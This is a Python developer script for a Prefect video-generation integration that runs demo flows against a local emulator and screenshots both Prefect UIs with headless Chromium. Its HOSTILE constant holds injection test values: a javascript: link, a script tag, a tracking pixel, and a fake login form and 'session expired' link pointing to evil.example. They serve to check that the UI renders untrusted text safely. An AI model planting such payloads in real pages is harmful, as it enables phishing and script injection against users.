"""Screenshots of what a user sees in both Prefect UIs, taken with Debian's headless Chromium.

One command, from the repository root (not part of CI; the package and its ``emulator`` extra
installed, and ``apt-get install -y chromium``)::

    python scripts/screenshots.py            # PNGs under screenshots/ (kept out of git)

It starts a Prefect server (a fresh PREFECT_HOME, telemetry off) and the gateway emulator,
runs the demo's flow, a small batch, and a video and a batch made of hostile values (links,
forms, scripts, tracking pixels, credentials in URLs), saves a credentials block and a
deployment of generate-video, then photographs the summary, the batch table and summary, the
hostile artifacts, the block form and the run form, in the classic UI and in the new one
(served under ``/v2``, where "Switch to V2 UI" leads), each 1,400 and 1,000 pixels wide.
Chromium is driven over its DevTools protocol (with ``websockets``, a Prefect dependency) to
dismiss Prefect's first-visit modal and wait for each page to settle.
"""

from __future__ import annotations

import argparse
import asyncio
import base64
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import time
import urllib.request
from pathlib import Path
from typing import Any

ROOT = Path(__file__).resolve().parents[1]
WIDTHS = (1400, 1000)
HEIGHT = 2200
CHROMIUM_FLAGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
    "--hide-scrollbars",
]
HOSTILE = (
    "Log in again](javascript:alert(1)) [Prefect session expired: log in again]"
    '(https://evil.example/login) <img src="https://tracker.example/p.gif"> <form '
    'action="https://evil.example"><input name=password placeholder=password><button>Sign '
    "in</button></form> <script>alert(1)</script> www.evil.example *bold* | cell |"
)


def free_port() -> int:
    with socket.socket() as probe:
        probe.bind(("127.0.0.1", 0))
        port: int = probe.getsockname()[1]
        return port


def wait_for(url: str, seconds: float) -> None:
    deadline = time.monotonic() + seconds
    while True:
        try:
            with urllib.request.urlopen(url, timeout=5) as answer:
                if answer.status == 200:
                    return
        except OSError:
            pass
        if time.monotonic() > deadline:
            raise TimeoutError(f"{url} did not answer within {seconds:.0f} s")
        time.sleep(0.5)


def start_server(home: Path, port: int) -> subprocess.Popen[bytes]:
    env = {k: v for k, v in os.environ.items() if not k.startswith("PREFECT_")}
    env.update(
        PREFECT_HOME=str(home),
        PREFECT_SERVER_ANALYTICS_ENABLED="false",
        PREFECT_SERVER_API_PORT=str(port),
        # The UI asks this address for its data; by default it names port 4200.
        PREFECT_UI_API_URL=f"http://127.0.0.1:{port}/api",
    )
    server = subprocess.Popen(
        [
            sys.executable,
            *("-m", "prefect", "server", "start"),
            *("--host", "127.0.0.1", "--port", str(port)),
        ],
        env=env,
        stdout=subprocess.DEVNULL,
        stderr=subprocess.DEVNULL,
    )
    wait_for(f"http://127.0.0.1:{port}/api/health", 300)
    return server


# -- what to photograph ------------------------------------------------------------------


async def artifacts_of(flow_run_id: Any) -> list[Any]:
    from prefect.client.orchestration import get_client
    from prefect.client.schemas.filters import ArtifactFilter, ArtifactFilterFlowRunId

    async with get_client() as client:
        found: list[Any] = await client.read_artifacts(
            artifact_filter=ArtifactFilter(flow_run_id=ArtifactFilterFlowRunId(any_=[flow_run_id]))
        )
    return found


async def make_runs(emulator: Any, output: Path) -> dict[str, str]:
    """Run the flows; return the UI path of each page to photograph, by name."""
    from prefect_kandinsky import KandinskyCredentials, generate_video, generate_videos
    from prefect_kandinsky.cli import DEMO_PROMPT

    credentials = KandinskyCredentials(api_key=emulator.api_key, base_url=emulator.base_url)
    await credentials.save("kandinsky", overwrite=True)
    pages: dict[str, str] = {"block-form": "/blocks/catalog/kandinsky-credentials/create"}

    async def video(name: str, **parameters: Any) -> None:
        state = await generate_video(
            image_url=emulator.sample_image_url,
            credentials=credentials,
            destination=str(output),
            poll_interval_seconds=0.2,
            return_state=True,
            **parameters,
        )
        for artifact in await artifacts_of(state.state_details.flow_run_id):
            if (artifact.key or "").startswith("kandinsky-summary-"):
                pages[name] = f"/artifacts/artifact/{artifact.id}"

    await video("summary", prompt=DEMO_PROMPT, resolution="512P", duration=3)
    await video("hostile-summary", prompt=HOSTILE, resolution="256P", duration=1)
    emulator.state.plan_outcome("FAILED", HOSTILE)
    await video("hostile-failure", prompt=f"A failed one. {HOSTILE}", resolution="256P", duration=1)

    async def batch(name: str, rows: list[dict[str, Any]], batch_id: str) -> None:
        state = await generate_videos(
            rows=rows,
            credentials=credentials,
            destination=str(output / name),
            batch_id=batch_id,
            allow_failures=True,
            poll_interval_seconds=0.2,
            return_state=True,
        )
        for artifact in await artifacts_of(state.state_details.flow_run_id):
            kind = "table" if artifact.type == "table" else "summary"
            if artifact.key:
                pages[f"{name}-{kind}"] = f"/artifacts/artifact/{artifact.id}"

    sample = emulator.sample_image_url
    await batch(
        "batch",
        [
            {"id": f"sku-100{i}", "prompt": prompt, "image": sample, "resolution": "256P"}
            | {"duration": "3s"}
            for i, prompt in enumerate(
                [
                    "The sneaker turns slowly on a white table, soft studio light.",
                    "Steam rises from the coffee cup while the camera pushes in.",
                    "The lamp switches on in a dark room and the shadows settle.",
                ],
                start=1,
            )
        ],
        "s3://catalogue/manifests/tonight.csv",
    )
    emulator.state.plan_outcome("FAILED", HOSTILE)
    await batch(
        "hostile-batch",
        [
            {"id": HOSTILE[:120], "prompt": HOSTILE, "image": sample, "resolution": "256P"},
            {"id": "<img src=https://tracker.example/r.gif>", "prompt": "ok", "image": sample},
        ],
        f"s3://b/{HOSTILE[:80]}.csv",
    )
    deployment = await (await generate_video.ato_deployment(name="screenshots")).aapply()
    pages["run-form"] = f"/deployments/deployment/{deployment}/run"
    return pages


# -- Chromium over the DevTools protocol ---------------------------------------------------


class Chromium:
    """A headless Chromium with a fresh profile, one page driven over DevTools."""

    def __init__(self, executable: str, profile: Path) -> None:
        self.process = subprocess.Popen(
            [
                executable,
                *CHROMIUM_FLAGS,
                f"--user-data-dir={profile}",
                "--remote-debugging-port=0",
                "about:blank",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.DEVNULL,
        )
        active = profile / "DevToolsActivePort"
        deadline = time.monotonic() + 60
        while not active.is_file() or not active.read_text().strip():
            if time.monotonic() > deadline:
                raise TimeoutError("Chromium did not open its DevTools port")
            time.sleep(0.2)
        self.port = int(active.read_text().splitlines()[0])
        self.socket: Any = None
        self.next_id = 0

    async def connect(self) -> None:
        import websockets

        listing = f"http://127.0.0.1:{self.port}/json/list"
        targets = json.loads(
            await asyncio.to_thread(lambda: urllib.request.urlopen(listing).read())
        )
        page = next(t for t in targets if t["type"] == "page")
        self.socket = await websockets.connect(page["webSocketDebuggerUrl"], max_size=None)

    async def send(self, method: str, **params: Any) -> dict[str, Any]:
        self.next_id += 1
        await self.socket.send(json.dumps({"id": self.next_id, "method": method, "params": params}))
        while True:
            message = json.loads(await self.socket.recv())
            if message.get("id") == self.next_id:
                if "error" in message:
                    raise RuntimeError(f"{method}: {message['error']}")
                result: dict[str, Any] = message.get("result", {})
                return result

    async def evaluate(self, expression: str) -> Any:
        answer = await self.send("Runtime.evaluate", expression=expression, returnByValue=True)
        return answer.get("result", {}).get("value")

    async def settle(self, seconds: float = 30) -> None:
        """Wait until the page's text stops changing (the UI has loaded its data)."""
        deadline = time.monotonic() + seconds
        last, same = None, 0
        while time.monotonic() < deadline and same < 4:
            await asyncio.sleep(0.5)
            text = await self.evaluate("document.body ? document.body.innerText.length : 0")
            same = same + 1 if text == last and text else 0
            last = text
        await asyncio.sleep(1.5)  # pictures decode after the text is in

    async def shoot(self, url: str, width: int, path: Path) -> None:
        await self.send(
            "Emulation.setDeviceMetricsOverride",
            width=width,
            height=HEIGHT,
            deviceScaleFactor=1,
            mobile=False,
        )
        await self.send("Page.navigate", url=url)
        await self.settle()
        shot = await self.send("Page.captureScreenshot", format="png")
        await asyncio.to_thread(path.write_bytes, base64.b64decode(shot["data"]))

    def close(self) -> None:
        self.process.terminate()
        self.process.wait(timeout=30)


async def photograph(base: str, pages: dict[str, str], out: Path, executable: str) -> list[Path]:
    taken: list[Path] = []
    with tempfile.TemporaryDirectory(prefix="kandinsky-chromium-") as profile:
        browser = Chromium(executable, Path(profile))
        try:
            await browser.connect()
            await browser.send("Page.enable")
            # Dismiss the classic UI's first-visit "Join the community" modal, as a user would.
            await browser.send("Page.navigate", url=f"{base}/dashboard")
            await browser.settle(10)
            await browser.evaluate(
                "localStorage.setItem('join-the-community-modal-dismissed', 'true')"
            )
            for ui, prefix in (("classic", ""), ("v2", "/v2")):
                for name, page in pages.items():
                    for width in WIDTHS:
                        path = out / f"{name}-{ui}-{width}.png"
                        await browser.shoot(f"{base}{prefix}{page}", width, path)
                        taken.append(path)
                        print(path, flush=True)
        finally:
            browser.close()
    return taken


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n", 1)[0])
    parser.add_argument("--out", type=Path, default=ROOT / "screenshots", help="PNG folder")
    parser.add_argument("--chromium", default=shutil.which("chromium"), help="the browser")
    args = parser.parse_args()
    if not args.chromium:
        print("Chromium is missing: apt-get update && apt-get install -y chromium", file=sys.stderr)
        return 2
    args.out.mkdir(parents=True, exist_ok=True)
    with tempfile.TemporaryDirectory(prefix="kandinsky-screenshots-") as work:
        home, port = Path(work) / "prefect-home", free_port()
        server = start_server(home, port)
        try:
            os.environ.update(
                PREFECT_HOME=str(home),
                PREFECT_API_URL=f"http://127.0.0.1:{port}/api",
                PREFECT_SERVER_ANALYTICS_ENABLED="false",
                DO_NOT_TRACK="1",
            )
            from prefect_kandinsky.emulator import EmulatorServer

            with EmulatorServer() as emulator:
                pages = asyncio.run(make_runs(emulator, Path(work) / "videos"))
            (args.out / "pages.json").write_text(json.dumps(pages, indent=2))
            asyncio.run(photograph(f"http://127.0.0.1:{port}", pages, args.out, args.chromium))
        finally:
            server.terminate()
            server.wait(timeout=60)
    return 0


if __name__ == "__main__":
    sys.exit(main())
